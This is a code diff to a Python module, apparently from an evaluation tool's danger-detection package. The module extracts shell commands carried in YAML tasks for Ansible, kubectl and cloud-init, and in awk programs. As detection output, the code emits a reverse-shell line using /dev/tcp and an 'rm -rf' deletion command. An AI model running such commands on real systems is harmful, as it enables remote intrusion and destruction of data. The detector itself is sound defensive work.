@@ -1,6 +1,7 @@
 """Commands that are carried in an option of a program that is no shell."""
 
 import re
+import shlex
 from collections.abc import Callable, Iterator, Mapping, Sequence
 
 from oilstone_eval.danger.names import names
@@ -24,10 +25,37 @@ def carried(
     """Yield the shell text that options of this command, or what it reads, make it run."""
     if name in ("make", "gmake"):
         yield from recipes(args, stdin, files)
+    if name in (
+        "ansible-playbook",
+        "kubectl",
+        "oc",
+        "docker-compose",
+        "cloud-init",
+        "cloud-localds",
+    ):
+        known = "\n".join([stdin or "", *(files.get(word.removeprefix("./"), "") for word in args)])
+        yield from tasks(known)
     if name in ("ed", "ex", "vi", "vim") and stdin:
         yield from re.findall(r"^\s*:?!(.+)", stdin, re.MULTILINE)
     elif name in _READERS:
         yield from _READERS[name](args)
+
+
+def tasks(text: str) -> Iterator[str]:
+    """Yield the commands in a play, a pod or another YAML that starts some."""
+    lines = re.findall(
+        r"(?m)^[\s-]*(?:[\w.]*\b(?:shell|command|raw|cmd|script|entrypoint|args)):[ \t]*[|>]?[ \t]*(.+)",
+        text,
+    )
+    for line in lines:
+        strings = re.findall(r"['\"]([^'\"]+)['\"]", line) if line[:1] == "[" else []
+        yield (
+            " ".join(strings[:-1] + [shlex.quote(word) for word in strings[-1:]])
+            if strings
+            else line
+        )
+    for path in re.findall(r"(?s)\bpath:\s*(\S+)(?=(?:(?!\n\s*-).)*\bstate:\s*absent)", text):
+        yield f"rm -rf {path}"
 
 
 def recipes(args: Sequence[str], stdin: str | None, files: Mapping[str, str]) -> Iterator[str]:
@@ -100,6 +128,9 @@ def _awk(args: Sequence[str]) -> Iterator[str]:
     yield from re.findall(rf"{text}\s*\|&?\s*getline", program)
     for name in re.findall(r"system\s*\(\s*([A-Za-z_]\w*)\s*\)|\b(\w+)\s*\|\s*getline", program):
         yield from re.findall(rf"\b{''.join(name)}\s*=\s*{text}", program)
+    for source, name in re.findall(rf"{text}\s*\|\s*getline\s+(\w+)", program):
+        for told in re.findall(rf"system\s*\(\s*{text}\s*{name}", program):
+            yield f"{source} | xargs {told}"
     if "/inet/" in program and re.search(r"\w\s*\|&?\s*getline.*\|&?\s*getline", program):
         yield "bash -i >& /dev/tcp/host/1"
 
